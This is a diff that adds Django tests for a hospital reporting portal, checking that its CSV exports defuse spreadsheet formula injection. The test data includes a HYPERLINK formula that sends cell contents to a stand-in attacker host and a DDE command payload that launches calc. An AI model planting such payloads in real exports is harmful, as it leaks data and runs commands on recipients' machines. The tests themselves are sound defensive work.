@@ -1,0 +1,88 @@
+"""Every CSV the portal hands out neutralises cells a spreadsheet would run as a formula."""
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+
+from cases import services
+from chpso_portal.audit.models import AuditEvent
+from chpso_portal.audit.services import audit_record
+from chpso_portal.csv import FORMULA_START, csv_text, safe_cell
+from tests.factories import ReportFactory
+
+REPO = Path(__file__).resolve().parents[2]
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
+            "\tcmd", "\rcmd"]
+
+
+def rows_of(response):
+    if getattr(response, "streaming", False):
+        text = b"".join(response.streaming_content).decode()
+    else:
+        text = response.content.decode()
+    return list(csv.reader(io.StringIO(text)))
+
+
+def assert_no_formula(rows):
+    cells = [cell for row in rows for cell in row]
+    assert cells
+    for cell in cells:
+        assert not cell.startswith(FORMULA_START), cell
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_formula_cell_is_shown_as_typed(payload):
+    assert safe_cell(payload) == "'" + payload
+    assert list(csv.reader(io.StringIO(csv_text([[payload, "plain", None, 3]])))) == [
+        ["'" + payload, "plain", "", "3"]]
+
+
+def test_the_leads_and_the_psos_exports_neutralise_formulas(world, client_for):
+    world.hospital.name = "=cmd|' /C calc'!A0"
+    world.hospital.save()
+    report = ReportFactory(hospital=world.hospital, narrative=PAYLOADS[0],
+                           location_detail="@corridor")
+    services.report_review_save(report=report, actor=world.lead, factors=["handover"],
+                                systems_issue=True, pso_summary="+summary -2")
+    services.report_send(report=report, actor=world.lead)
+
+    lead_rows = rows_of(client_for(world.lead).get(reverse("report-export")))
+    pso_rows = rows_of(client_for(world.coordinator).get(reverse("pso-report-export")))
+
+    for rows in (lead_rows, pso_rows):
+        assert_no_formula(rows)
+        assert "'" + PAYLOADS[0] in rows[2]
+    assert "'+summary -2" in pso_rows[2] and "'=cmd|' /C calc'!A0" in pso_rows[2]
+
+
+def test_the_import_template_goes_through_the_same_writer(world, client_for):
+    assert_no_formula(rows_of(client_for(world.lead).get(reverse("report-import-template"))))
+
+
+def test_the_audit_export_neutralises_formulas(world, client_for):
+    event = audit_record(actor=world.lead, action="view", hospital=world.hospital,
+                         summary="=HYPERLINK(\"http://evil.example\")")
+    response = client_for(world.coordinator).post(
+        reverse("admin:audit_auditevent_changelist"),
+        {"action": "export_csv", "index": 0, "_selected_action": [event.pk]})
+    rows = rows_of(response)
+    assert_no_formula(rows)
+    assert "'=HYPERLINK(\"http://evil.example\")" in rows[2]
+    assert AuditEvent.objects.filter(action="export").exists()
+
+
+def test_no_code_writes_csv_except_the_shared_writer():
+    """A new export must use chpso_portal.csv; this finds one that bypasses it."""
+    allowed = {REPO / "chpso_portal" / "csv.py"}
+    offenders = []
+    for app in ("chpso_portal", "cases", "collaboratives", "members"):
+        for path in (REPO / app).rglob("*.py"):
+            if path in allowed or "management" in path.parts or "migrations" in path.parts:
+                continue
+            text = path.read_text()
+            if "csv.writer" in text or "csv.DictWriter" in text or "text/csv" in text:
+                offenders.append(str(path.relative_to(REPO)))
+    assert offenders == []
